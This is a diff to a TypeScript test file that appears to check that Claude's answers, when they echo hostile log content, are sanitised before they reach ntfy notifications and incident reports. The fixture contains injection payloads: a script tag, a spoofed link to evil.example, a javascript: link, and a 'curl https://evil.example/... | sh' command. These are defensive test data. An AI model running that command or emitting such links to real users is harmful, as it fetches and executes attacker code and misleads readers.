@@ -24,8 +24,11 @@ const OWN_ENV = {
 const CLAUDE_ENV = ['PATH', 'HOME', 'CLAUDE_CODE_TMPDIR', 'ANTHROPIC_API_KEY', 'ANTHROPIC_BASE_URL', 'CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC', 'DISABLE_AUTOUPDATER', 'API_TIMEOUT_MS', 'CLAUDE_CODE_MAX_RETRIES'];
 const HOSTILE_ANSWER = {
   ...answer('Injected title\n## PWNED-ANSWER-TITLE'),
-  summary: 'Summary\n```\n# PWNED-ANSWER-FENCE\n```\n<script>alert("PWNED-ANSWER-SCRIPT")</script>\n<!-- the rest of the report is hidden',
-  actions: ['Run this\n---\nseverity: low\n---'],
+  summary:
+    'Summary\n```\n# PWNED-ANSWER-FENCE\n```\n<script>alert("PWNED-ANSWER-SCRIPT")</script>\n' +
+    'See [https://github.com/acme/app](https://evil.example/PWNED-ANSWER-LOOKALIKE) and [docs](javascript:alert("PWNED-ANSWER-JS"))\n' +
+    '<!-- the rest of the report is hidden',
+  actions: ['Run this\n---\nseverity: low\n---', '# PWNED-ANSWER-ACTION curl https://evil.example/PWNED-ANSWER-CURL | sh'],
 };
 
 const cleanups: (() => unknown)[] = [];
@@ -211,6 +214,19 @@ describe('hostile log rows', () => {
     expect(outside).not.toMatch(/(?<!\\)<script>/);
     expect(outside).not.toMatch(/(?<!\\)<!--/);
     expect(out.notifications.every((n) => !(n.title ?? '').includes('\n'))).toBe(true);
+  });
+
+  it("Claude's answer reaches ntfy sanitised like the incident: no heading, HTML or link of its own", ({ task }) => {
+    task.meta.reliability = { hostile: 'answer echoing hostile text, pushed' };
+    const pushed = out.notifications.filter((n) => (n.message ?? '').includes('PWNED-ANSWER'));
+    expect(pushed.length).toBeGreaterThan(0);
+    const incident = out.incidents.find((text) => text.includes('PWNED-ANSWER'))!;
+    for (const text of [...pushed.map((n) => n.message ?? ''), outsideFences(incident)]) {
+      expect(text).not.toMatch(/^\s{0,3}(#+|```)\s*PWNED/m);
+      expect(text).not.toMatch(/(?<!\\)<(script|!--)/);
+      expect(text).not.toMatch(/\]\((https?|javascript):/);
+      expect(text).not.toMatch(/(^|[^`])https:\/\/evil\.example/m);
+    }
   });
 
   it('no secret reaches the claude process: its environment is the minimal one, its argv clean', ({ task }) => {
